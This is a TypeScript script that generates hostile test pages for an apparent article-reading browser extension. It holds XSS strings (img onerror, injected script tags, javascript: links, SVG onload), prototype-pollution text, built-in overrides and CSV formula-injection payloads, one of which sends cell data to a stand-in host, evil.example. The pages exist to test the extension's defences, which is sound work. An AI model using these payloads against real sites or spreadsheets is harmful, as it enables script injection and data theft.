// Writes the hostile page corpus: test/pages/hostile/<name>/page.html + expected.json. Each page
// is a campaign article in china.com's layout built from real sentences of seeds/000 and 001,
// plus one hostility. `figures` in expected.json is what readArticle + extraction find in the
// page's static HTML (linkedom), the floor the live page must still reach. Pages of many
// megabytes are only skeletons here: test/e2e/hostile.test.ts grows them at test time.
// Run: npx tsx test/pages/hostile/generate.ts
import { mkdirSync, readFileSync, rmSync, writeFileSync, readdirSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { parseHTML } from 'linkedom';
import { readArticle } from '../../../lib/sites';
import { extractFigures } from '../../../lib/extract';

const DIR = resolve(import.meta.dirname);
const SEEDS = resolve(import.meta.dirname, '../../../seeds');

function seedLines(file: string): string[] {
  return readFileSync(join(SEEDS, file), 'utf8').split('\n').map((l) => l.trim()).filter(Boolean);
}
const S0 = seedLines('000_b500d0858ad7eb4c.txt');
const S1 = seedLines('001_f2a32313766f3d5f.txt');
const TITLE = S0[0]!;
/** Paragraphs with figures and campaign wording (主题教育) from the top of seed 000. */
const BASE = S0.slice(3, 10);
const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
const paras = (list: string[]) => list.map((p) => `<p>${esc(p)}</p>`).join('\n');

interface Spec {
  name: string;
  description: string;
  /** Which page-behaviour check applies (see hostile.test.ts). */
  check: string;
  head?: string;
  /** Raw HTML of the article body (default: the base paragraphs). */
  body?: string;
  /** Raw HTML before / after the article container. */
  before?: string;
  after?: string;
  /** Inline script at the end of <body>. */
  script?: string;
  /** Inline script in <head>, before any content (page overrides). */
  headScript?: string;
  /** A whole document instead of the template. */
  whole?: string;
  title?: string;
  /** Response headers the test serves the page with. */
  headers?: Record<string, string>;
  /** Generated at test time from the skeleton (name of the generator in hostile.test.ts). */
  generate?: string;
  /** Figures the live page yields when the static count does not apply (generated pages, pages whose own script writes the text). */
  figures?: number;
  /** The summary says the content script left the page, or part of it, unchecked, and why. */
  skipped?: 'page-too-large' | 'article-too-long';
}

const PWN = 'window.__pwned=(window.__pwned||0)+1';

const specs: Spec[] = [
  // ── text crafted to inject markup into the card or the export ──
  {
    name: 'inject-img-onerror-text',
    description: 'An <img onerror> written as text inside a figure sentence',
    check: 'card-inert',
    body: paras([`全市<img src=x onerror="${PWN}">共有9606个参学单位<img src=x onerror="${PWN}">参加主题教育。`, ...BASE]),
  },
  {
    name: 'inject-style-close',
    description: 'A </style> and <script> written as text next to a figure, aimed at the card\'s shadow style',
    check: 'card-inert',
    body: paras([`主题教育期间共整改问题26个</style><script>${PWN}</script><style>。`, ...BASE]),
  },
  {
    name: 'inject-javascript-link',
    description: 'Figures inside javascript: links and the text "javascript:" in a sentence',
    check: 'card-inert',
    body: `<p>据统计，<a href="javascript:${PWN}">全市共有9606个参学单位</a>参加主题教育，javascript:${PWN}// 2.9万个基层党组织。</p>\n${paras(BASE)}`,
  },
  {
    name: 'inject-formula-export',
    description: 'Spreadsheet formulas (=HYPERLINK, +cmd, @SUM, -2+3) around figures, aimed at the CSV export',
    check: 'export-inert',
    body: paras([
      `=HYPERLINK("http://evil.example/?d="&A1,"详情")共有9606个参学单位参加主题教育。`,
      `+cmd|' /C calc'!A0 梳理整改问题26个。`,
      `@SUM(1+1)*cmd|' /C calc'!A0 确定调研课题41个。`,
      `-2+3+cmd|' /C calc'!A0 推动改革事项17个。`,
      ...BASE,
    ]),
  },
  {
    name: 'inject-title-meta',
    description: 'Markup and formulas as text in the title, source and byline',
    check: 'card-inert',
    title: `<script>${PWN}</script>=HYPERLINK("http://evil.example")`,
    before: `<div id="chan_newsInfo">2024-01-01 09:00:00 来源:&lt;img src=x onerror=${PWN}&gt;郑州日报</div>`,
  },
  {
    name: 'inject-template-syntax',
    description: 'Template and prototype-pollution syntax as text: ${…}, {{constructor…}}, __proto__',
    check: 'card-inert',
    body: paras([
      `主题教育\${alert(1)}共有9606个参学单位{{constructor.constructor('${PWN}')()}}参加。`,
      `__proto__[polluted]=1 constructor[prototype][x]=1 整改问题26个。`,
      ...BASE,
    ]),
    script: `window.__pageProbe=()=>({}).polluted===undefined&&({}).x===undefined;`,
  },
  {
    name: 'inject-svg-text',
    description: 'SVG markup as text, and a real inline SVG with <text> figures',
    check: 'card-inert',
    body: `${paras([`&lt;svg onload=${PWN}&gt;全市共有9606个参学单位。`.replace(/&lt;|&gt;/g, (m) => (m === '&lt;' ? '<' : '>')), ...BASE])}
<svg width="300" height="40" xmlns="http://www.w3.org/2000/svg"><text x="0" y="20">参学单位9606个 党员62.8万名</text><a href="javascript:${PWN}"><text x="0" y="38">点击</text></a></svg>`,
  },
  // ── the page overrides built-ins in its own (main) world ──
  // ── a page acting for the reader ──
  {
    name: 'synthetic-events-shadow-walk',
    description: 'The page dispatches synthetic pointer, click and keyboard events at every paragraph and walks our host for a shadow root to read and press',
    check: 'page-probe',
    script: `(function(){window.__seen=0;window.__pressed=0;setInterval(function(){var ps=document.querySelectorAll('p');for(var i=0;i<ps.length;i++){var r=ps[i].getBoundingClientRect();['pointermove','pointerover','mousemove','click'].forEach(function(t){ps[i].dispatchEvent(new MouseEvent(t,{bubbles:true,clientX:r.left+20,clientY:r.top+8}))})}document.dispatchEvent(new KeyboardEvent('keydown',{key:'N',altKey:true,shiftKey:true,bubbles:true}));var hosts=document.querySelectorAll('[data-figure-check-root]');for(var j=0;j<hosts.length;j++){var root=hosts[j].shadowRoot;if(root){window.__seen++;var b=root.querySelectorAll('button');for(var k=0;k<b.length;k++){b[k].click();window.__pressed++}}}},50);window.__pageProbe=function(){return window.__seen===0&&window.__pressed===0};})();`,
  },
  {
    name: 'forged-canonical',
    description: "The page's canonical URL claims an article on another site",
    check: 'own-url',
    head: '<link rel="canonical" href="http://www.dahe.cn/kept/claimed-article.html"><meta property="og:url" content="http://www.dahe.cn/kept/claimed-article.html">',
  },
  {
    name: 'override-range',
    description: 'The page replaces Range, Range.prototype.setStart and document.createRange',
    check: 'page-probe',
    headScript: `(function(){var R=window.Range;Range.prototype.setStart=function(){return 'page-setStart'};document.createRange=function(){return 'page-range'};window.Range=function(){return {page:true}};window.__pageProbe=function(){return document.createRange()==='page-range'&&R.prototype.setStart.call(null)==='page-setStart'&&new window.Range().page===true;};})();`,
  },
  {
    name: 'override-css-highlights',
    description: 'The page removes Highlight, makes CSS.highlights throw and replaces CSS',
    check: 'page-probe',
    headScript: `(function(){Object.defineProperty(CSS,'highlights',{get:function(){throw new Error('page: no highlights')}});window.Highlight=undefined;var c=window.CSS;window.CSS={page:true,escape:c.escape};window.__pageProbe=function(){try{c.highlights;return false}catch(e){return window.CSS.page===true&&window.Highlight===undefined}};})();`,
  },
  {
    name: 'override-array',
    description: 'The page breaks Array.prototype.map, push, forEach and Array.from',
    check: 'page-probe',
    headScript: `(function(){var p=Array.prototype;p.map=function(){return ['page-map']};p.push=function(){return -1};p.forEach=function(){throw new Error('page: no forEach')};Array.from=function(){return ['page-from']};window.__pageProbe=function(){return [1,2].map(function(x){return x})[0]==='page-map'&&[].push(1)===-1&&Array.from([3])[0]==='page-from'};})();`,
  },
  {
    name: 'override-json',
    description: 'The page makes JSON.parse and JSON.stringify return garbage',
    check: 'page-probe',
    headScript: `(function(){JSON.parse=function(){return {page:'parse'}};JSON.stringify=function(){return 'page-stringify'};window.__pageProbe=function(){return JSON.stringify({a:1})==='page-stringify'&&JSON.parse('1').page==='parse'};})();`,
  },
  {
    name: 'override-fetch-xhr',
    description: 'The page replaces fetch and XMLHttpRequest',
    check: 'page-probe',
    headScript: `(function(){window.fetch=function(){return Promise.reject(new Error('page: no fetch'))};window.XMLHttpRequest=function(){throw new Error('page: no xhr')};window.__pageProbe=function(){return String(window.fetch).indexOf('page: no fetch')>0};})();`,
  },
  {
    name: 'override-mutation-observer',
    description: 'The page replaces MutationObserver with one that throws, and IntersectionObserver',
    check: 'page-probe',
    headScript: `(function(){window.MutationObserver=function(){throw new Error('page: no MutationObserver')};window.IntersectionObserver=undefined;window.__pageProbe=function(){try{new MutationObserver(function(){});return false}catch(e){return /page/.test(e.message)}};})();`,
  },
  {
    name: 'override-dom-insertion',
    description: 'The page makes appendChild, insertBefore, append and replaceChildren throw',
    check: 'page-probe',
    headScript: `(function(){var N=Node.prototype,E=Element.prototype,a=N.appendChild;N.appendChild=function(){throw new Error('page: no appendChild')};N.insertBefore=function(){throw new Error('page: no insertBefore')};E.append=function(){throw new Error('page: no append')};E.replaceChildren=function(){throw new Error('page: no replaceChildren')};window.__pageProbe=function(){try{document.body.appendChild(document.createElement('i'));return false}catch(e){return /page/.test(e.message)}};})();`,
  },
  {
    name: 'override-attach-shadow',
    description: 'The page makes Element.prototype.attachShadow throw and hides shadowRoot',
    check: 'page-probe',
    headScript: `(function(){Element.prototype.attachShadow=function(){throw new Error('page: no attachShadow')};Object.defineProperty(Element.prototype,'shadowRoot',{get:function(){return null}});window.__pageProbe=function(){try{document.createElement('div').attachShadow({mode:'open'});return false}catch(e){return /page/.test(e.message)}};})();`,
  },
  {
    name: 'override-object-prototype',
    description: 'The page pollutes Object.prototype (then, type, ok, figures) and freezes Promise',
    check: 'page-probe',
    headScript: `(function(){Object.prototype.then=undefined;Object.defineProperty(Object.prototype,'type',{get:function(){return 'page-type'},set:function(){},configurable:true});Object.prototype.ok=true;Object.prototype.figures='page';window.Promise.prototype.then=(function(t){return function(a,b){return t.call(this,a,b)}})(Promise.prototype.then);window.__pageProbe=function(){return ({}).type==='page-type'&&({}).ok===true};})();`,
  },
  {
    name: 'override-custom-element-host',
    description: 'The page defines our host tag as its own custom element (it would run page code on our host)',
    check: 'page-probe',
    headScript: `(function(){window.__hostUpgrades=0;customElements.define('figure-check-root',class extends HTMLElement{constructor(){super();window.__hostUpgrades++;${PWN};}connectedCallback(){this.setAttribute('data-page-owned','1')}});window.__pageProbe=function(){return !!customElements.get('figure-check-root')};})();`,
  },
  {
    name: 'override-scheduler-timers',
    description: 'The page replaces setTimeout, requestAnimationFrame and scheduler.yield',
    check: 'page-probe',
    headScript: `(function(){window.setTimeout=function(){return -1};window.requestAnimationFrame=function(){return -1};window.scheduler={yield:function(){return new Promise(function(){})}};window.__pageProbe=function(){return setTimeout(function(){},0)===-1};})();`,
  },
  // ── what the page does to our element ──
  {
    name: 'page-removes-foreign-nodes',
    description: 'The page removes any element added to <html> or <body> that it did not create',
    check: 'host-removed',
    script: `window.__removed=0;new MutationObserver(function(rs){rs.forEach(function(r){r.addedNodes.forEach(function(n){if(n.nodeType===1&&!n.hasAttribute('data-page')){n.remove();window.__removed++}})})}).observe(document.documentElement,{childList:true,subtree:true});window.__pageProbe=function(){return true};`,
  },
  {
    name: 'page-styles-hide-host',
    description: 'Page CSS hides unknown elements: html > :not(head):not(body), * { display:none !important } on custom tags',
    check: 'card-visible',
    head: `<style>html > :not(head):not(body){display:none!important;visibility:hidden!important;opacity:0!important}figure-check-root,[data-figure-check-root]{display:none!important;position:absolute!important;left:-9999px!important;width:0!important;height:0!important;overflow:hidden!important;contain:strict!important}</style>`,
  },
  // ── content security policy ──
  {
    name: 'csp-meta-strict',
    description: "<meta> CSP default-src 'none'; style-src 'none'",
    check: 'card-visible',
    head: `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'none'">`,
  },
  {
    name: 'csp-header-trusted-types',
    description: "CSP header: default-src 'none', style-src 'none', require-trusted-types-for 'script', trusted-types 'none'",
    check: 'card-visible',
    headers: { 'content-security-policy': "default-src 'none'; style-src 'none'; require-trusted-types-for 'script'; trusted-types 'none'" },
  },
  // ── frames, shadow DOM, editors, SVG ──
  {
    name: 'frameset',
    description: 'A frameset whose frames hold the article: the top document has no body to read',
    check: 'none',
    whole: `<!doctype html><html lang="zh-CN"><head><meta charset="utf-8"><title>${esc(TITLE)}</title></head><frameset cols="30%,70%"><frame src="about:blank"><frame srcdoc="<p>${esc(BASE[0]!)}</p>"></frameset></html>`,
  },
  {
    name: 'iframes',
    description: 'The article, plus iframes (srcdoc and sandboxed) holding more campaign text',
    check: 'page-probe',
    after: `<iframe id="f1" srcdoc="<p>${esc(BASE[1]!)}</p><script>parent.__frameRan=1</script>"></iframe><iframe sandbox srcdoc="<p>${esc(BASE[2]!)}</p>"></iframe><iframe src="about:blank"></iframe>`,
    script: `window.__pageProbe=function(){var d=document.getElementById('f1').contentDocument;return window.__frameRan===1&&!!d&&d.body.innerHTML.indexOf('fc-mark')<0};`,
  },
  {
    name: 'shadow-dom-article',
    description: 'Half the article in light DOM, half inside open and closed shadow roots',
    check: 'page-probe',
    body: paras(BASE.slice(0, 4)),
    after: `<div id="open-host"><template shadowrootmode="open"><p>${esc(BASE[4]!)}</p></template></div><div id="closed-host"></div>`,
    script: `(function(){var r=document.getElementById('closed-host').attachShadow({mode:'closed'});var p=document.createElement('p');p.textContent=${JSON.stringify(BASE[5])};r.appendChild(p);var before=document.getElementById('open-host').shadowRoot.innerHTML;window.__pageProbe=function(){return document.getElementById('open-host').shadowRoot.innerHTML===before&&r.innerHTML.indexOf('fc-mark')<0}})();`,
  },
  {
    name: 'contenteditable-editor',
    description: 'A rich-text editor (contenteditable) and a textarea inside the article, with figures of their own',
    check: 'editor-unchanged',
    body: `${paras(BASE)}\n<div id="editor" contenteditable="true"><p>草稿：本次共走访群众88881户，收集意见77772条。</p></div>\n<textarea id="ta">草稿：办结率66.63%</textarea>`,
  },
  {
    name: 'opt-out-data-gramm',
    description: 'Editor fields marked data-gramm="false" / data-gramm_editor="false" / data-enable-grammarly="false"',
    check: 'editor-unchanged',
    body: `${paras(BASE)}\n<div id="editor" data-gramm="false" data-gramm_editor="false" data-enable-grammarly="false"><p>草稿：本次共走访群众88881户，收集意见77772条。</p></div>`,
  },
  // ── pages that never stop ──
  {
    name: 'mutate-every-10ms',
    description: 'A ticker inside the article rewritten every 10 ms forever, with numbers',
    check: 'page-probe',
    body: `${paras(BASE)}\n<p id="ticker">实时：0人次</p>`,
    script: `window.__ticks=0;var t=document.getElementById('ticker');setInterval(function(){window.__ticks++;t.textContent='实时：'+window.__ticks+'人次';if(window.__ticks%10===0){var s=document.createElement('span');s.textContent='新增'+window.__ticks+'个';t.appendChild(s)}},10);window.__pageProbe=function(){var a=window.__ticks;return new Promise(function(r){setTimeout(function(){r(window.__ticks>a+5)},300)})};`,
  },
  {
    name: 'busy-page-script',
    description: 'The page\'s own script blocks its main thread for 80 ms every 500 ms',
    check: 'page-probe',
    script: `window.__busy=0;setInterval(function(){var e=performance.now()+80;while(performance.now()<e){}window.__busy++},500);window.__pageProbe=function(){var a=window.__busy;return new Promise(function(r){setTimeout(function(){r(window.__busy>a)},1200)})};`,
  },
  // ── size ──
  { name: 'huge-20mb', description: 'About 20 MB of article paragraphs (generated at test time)', check: 'none', generate: 'huge-20mb', figures: 0, skipped: 'page-too-large' },
  { name: 'huge-text-node-5mb', description: 'One text node of 5 MB inside the article (generated at test time)', check: 'none', generate: 'huge-text-node-5mb', figures: 15, skipped: 'article-too-long' },
  { name: 'many-elements-100k', description: '100,000 tiny elements inside the article around the real paragraphs (generated at test time)', check: 'none', generate: 'many-elements-100k', figures: 0, skipped: 'page-too-large' },
  {
    name: 'deep-nesting',
    description: 'The article nested 400 elements deep (built by the page script)',
    check: 'page-probe',
    body: paras(BASE.slice(0, 2)),
    after: '',
    script: `(function(){var d=document.getElementById('chan_newsDetail'),n=d;for(var i=0;i<400;i++){var c=document.createElement(i%2?'span':'div');n.appendChild(c);n=c}var p=document.createElement('p');p.textContent=${JSON.stringify(BASE[2])};n.appendChild(p);window.__pageProbe=function(){return d.querySelectorAll('div,span').length===400}})();`,
  },
  // ── scripts and encodings ──
  {
    name: 'rtl-mixed-scripts',
    description: 'dir=rtl with Arabic and Hebrew runs, bidi overrides (U+202E, U+2067) around figures',
    check: 'none',
    head: '',
    body: paras([
      `مرحبا بكم في الموقع — ‮全市共有9606个参学单位‬ — שלום עולם。`,
      `⁧主题教育期间梳理整改问题26个⁩，العدد ٩٦٠٦ והמספר 62.8。`,
      ...BASE,
    ]),
  },
  {
    name: 'lone-surrogates',
    description: 'Lone surrogate halves and U+FFFF written by the page script into figure sentences',
    check: 'page-probe',
    script: `(function(){var ps=document.querySelectorAll('#chan_newsDetail p');for(var i=0;i<ps.length;i++){ps[i].insertBefore(document.createTextNode('\\uD800'),ps[i].firstChild);ps[i].appendChild(document.createTextNode('\\uDC00\\uFFFF共有96\\uDBFF06个'))}window.__pageProbe=function(){return document.body.textContent.indexOf('\\uD800')>=0}})();`,
  },
  {
    name: 'invisible-characters',
    description: 'Zero-width spaces, soft hyphens and full-width digits inside figures',
    check: 'none',
    body: paras([`全市共有９６０６个参学单位、2\u200B.9万个基层党组织、62.8\u00AD万多名党员参加主题教育。`, ...BASE]),
  },
  // ── navigation while processing ──
  {
    name: 'navigate-push-state',
    description: 'The page calls history.pushState to new addresses and swaps the article while it is read',
    check: 'navigates',
    script: `(function(){var n=0;var id=setInterval(function(){n++;history.pushState({n:n},'','/hostile/navigate-push-state.html?step='+n);var p=document.createElement('p');p.textContent=${JSON.stringify(S1[5] ?? BASE[0])};document.getElementById('chan_newsDetail').appendChild(p);if(n>=5)clearInterval(id)},15);window.__pageProbe=function(){return location.search==='?step=5'}})();`,
  },
  {
    name: 'navigate-location',
    description: 'The page sets location.href to another article 30 ms after it loads',
    check: 'navigates',
    script: `setTimeout(function(){location.href='/hostile/inject-img-onerror-text.html?from=navigate'},30);`,
  },
  {
    name: 'article-replaced',
    description: 'The page replaces the article\'s text nodes right after load (stale ranges)',
    check: 'article-removed',
    script: `setTimeout(function(){var ps=document.querySelectorAll('#chan_newsDetail p');for(var i=0;i<ps.length;i++){ps[i].textContent=ps[i].textContent}},5);setTimeout(function(){document.getElementById('chan_newsDetail').remove()},400);`,
    figures: 0,
  },
];

function page(spec: Spec): string {
  if (spec.whole) return spec.whole;
  const title = spec.title ?? TITLE;
  return `<!doctype html>
<html lang="zh-CN"${spec.name.startsWith('rtl') ? ' dir="rtl"' : ''}>
<head>
<meta charset="utf-8">
${spec.head ?? ''}
<title>${esc(title)}_中华网</title>
${spec.headScript ? `<script>${spec.headScript}</script>` : ''}
</head>
<body>
<div class="top" data-page><a href="http://news.china.com/">新闻</a></div>
<h1 id="chan_newsTitle">${esc(title)}</h1>
${spec.before ?? '<div id="chan_newsInfo">2024-01-01 09:00:00 来源:郑州日报</div>'}
<div id="chan_newsDetail">
${spec.body ?? paras(BASE)}
</div>
${spec.after ?? ''}
<div class="foot" data-page>中华网版权所有</div>
${spec.script ? `<script>${spec.script}</script>` : ''}
</body>
</html>
`;
}

function staticFigures(html: string, url: string): number {
  const { document } = parseHTML(html);
  const found = readArticle(document as unknown as Document, url);
  return found ? extractFigures(found.text.text).length : 0;
}

for (const d of readdirSync(DIR, { withFileTypes: true })) if (d.isDirectory()) rmSync(join(DIR, d.name), { recursive: true });
for (const spec of specs) {
  const html = page(spec);
  const url = `http://news.china.com/hostile/${spec.name}.html`;
  const expected = {
    url,
    description: spec.description,
    figures: spec.figures ?? staticFigures(html, url),
    check: spec.check,
    ...(spec.headers ? { headers: spec.headers } : {}),
    ...(spec.generate ? { generate: spec.generate } : {}),
    ...(spec.skipped ? { skipped: spec.skipped } : {}),
  };
  mkdirSync(join(DIR, spec.name), { recursive: true });
  writeFileSync(join(DIR, spec.name, 'page.html'), html);
  writeFileSync(join(DIR, spec.name, 'expected.json'), JSON.stringify(expected, null, 2) + '\n');
}
console.log(`${specs.length} hostile pages written`);
